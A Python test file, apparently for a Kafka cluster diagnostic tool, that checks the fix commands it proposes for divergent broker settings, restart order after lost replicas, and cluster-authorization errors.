def test_a_setting_that_differs_is_to_be_set_not_appended() -> None:
    odd = {**HEALTHY.broker_configs, 3: (config("log.retention.ms", "2"),)}
    (finding,) = examine(replace(HEALTHY, broker_configs=odd))
    assert finding.mend.startswith("set log.retention.ms=") and "of broker 3" in finding.mend


def test_a_setting_that_differs_because_of_a_command_is_deleted_by_one() -> None:
    by_command = config("log.retention.ms", "2")._replace(on_broker=True)
    (finding,) = examine(
        replace(HEALTHY, broker_configs={**HEALTHY.broker_configs, 3: (by_command,)})
    )
    unset = f"ottla kafka-configs --bootstrap-server {HEALTHY.brokers[0].host}:9092 --alter --entity-type brokers"
    assert finding.mend == f"{unset} --entity-name 3 --delete-config log.retention.ms"
    two = {1: (by_command,), 2: (config("log.retention.ms", "1"),)}
    (finding,) = examine(replace(HEALTHY, broker_configs=two))
    assert "--entity-name 1 --delete-config" in finding.mend, "not what the others have in files"


def test_the_only_replica_in_sync_is_started_first_where_unclean_elections_are_allowed() -> None:
    alone = orders(
        partitions=(partition(0, replicas=(2, 3), leader=2, isr=(2,)),),
        configs=SETTINGS | {"unclean.leader.election.enable": "true"},
    )
    ended = tuple(node(id, state="killed", pid=None) for id in (2, 3))
    facts = replace(
        HEALTHY,
        topics=(alone,),
        machine=machine(nodes=(node(1), *ended)),
        unknown={"the metadata quorum": "no majority"},
    )
    (lost,) = (each for each in examine(facts) if each.rule == "quorum-has-no-leader")
    assert lost.mend.startswith("ottla nodes start 2 && ottla up --detach")
    fenced = tuple(each._replace(fenced=each.id > 1) for each in HEALTHY.brokers)
    mends = [
        each.mend
        for each in examine(replace(facts, brokers=fenced))
        if each.rule == "broker-fenced"
    ]
    assert [("only after broker 2" in mend) for mend in mends] == [False, True]


def test_who_may_not_ask_for_the_quorum_is_not_told_that_it_is_lost() -> None:
    refused = {"the metadata quorum": "CLUSTER_AUTHORIZATION_FAILED: Cluster authorization failed."}
    assert not examine(replace(HEALTHY, unknown=refused))
